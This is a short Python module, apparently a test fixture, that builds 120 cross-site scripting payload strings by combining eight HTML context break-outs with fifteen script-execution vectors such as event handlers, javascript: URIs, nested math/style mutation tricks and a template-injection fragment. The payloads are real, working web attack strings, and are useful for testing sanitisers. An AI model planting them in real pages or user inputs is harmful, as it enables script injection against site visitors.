"""120 texts that somebody hopes a page will run: fifteen ways to run, each after eight ways to break out."""

BREAK_OUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea></select>",
    "</script></style>",
    "--><x>",
    '" autofocus onfocus=hack() x="',
)
RUNS = (
    "<script>hack()</script>",
    "<img src=x onerror=hack()>",
    "<svg/onload=hack()>",
    "<svg><script>hack()</script></svg>",
    "<iframe srcdoc='<script>parent.hack()</script>'></iframe>",
    "<iframe src=javascript:parent.hack()></iframe>",
    "<details open ontoggle=hack()>x</details>",
    "<input autofocus onfocus=hack()>",
    "<video><source onerror=hack()></video>",
    "<body onload=hack()>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hack()></style></mglyph></table></mtext></math>",
    "<object data='data:text/html,<script>parent.hack()</script>'></object>",
    "<a autofocus tabindex=1 onfocus=hack() href=javascript:hack()>x</a>",
    "<marquee onstart=hack()>x</marquee>",
    "<style onload=hack()></style>{{ ''.__class__ }}${hack()}",
)
HOSTILE_TEXTS = tuple(before + run for before in BREAK_OUTS for run in RUNS)
